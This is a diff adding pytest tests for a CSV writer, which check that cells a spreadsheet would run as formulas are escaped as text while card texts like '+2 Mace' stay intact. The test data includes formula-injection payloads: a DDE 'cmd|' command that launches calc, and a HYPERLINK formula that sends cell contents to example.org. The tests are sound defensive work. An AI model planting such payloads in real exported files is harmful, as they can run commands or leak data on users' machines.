@@ -225,3 +225,40 @@ def test_no_line_is_wider_than_the_terminal_and_no_character_is_lost(
     for row in rows:
         for value in row:
             assert all(shown.count(char) >= str(value).count(char) for char in str(value))
+
+
+class TestFormulas:
+    """A spreadsheet runs what it takes for a formula, and a formula can send what stands beside it to another machine."""
+
+    @pytest.mark.parametrize(
+        "text",
+        ["=1+1", "=HYPERLINK(\"http://example.org\"&A1)", "@SUM(A1)", "+HYPERLINK(\"x\")", "-2+3+cmd|' /C calc'!A0", "+cmd|'x'!A1",
+         "\t=1", "\r=1", "＝1+1", "+1:\nfoo|bar"],
+    )  # fmt: skip
+    def test_what_a_spreadsheet_would_run_is_written_as_text(self, text):
+        out = io.StringIO()
+        write_csv(out, ["a", "b"], [[text, 1]])
+        (_, row) = csv.reader(io.StringIO(out.getvalue(), newline=""))
+        assert row == ["'" + text.replace("\r", "\n"), "1"]
+
+    @pytest.mark.parametrize(
+        "text",
+        [
+            "+2 Mace",
+            "-1",
+            "+1",
+            "-0",
+            "*",
+            "+1: Draw a card. (Then discard it.)",
+            "−2: Exile it.",
+            "_____",
+            "A=B",
+            "1+*",
+            "-",
+            "",
+        ],
+    )
+    def test_cards_and_their_texts_stay_as_they_are(self, text):
+        out = io.StringIO()
+        write_csv(out, ["a", "b"], [[text, -5], [None, -1.5]])
+        assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [["a", "b"], [text, "-5"], ["", "-1.5"]]
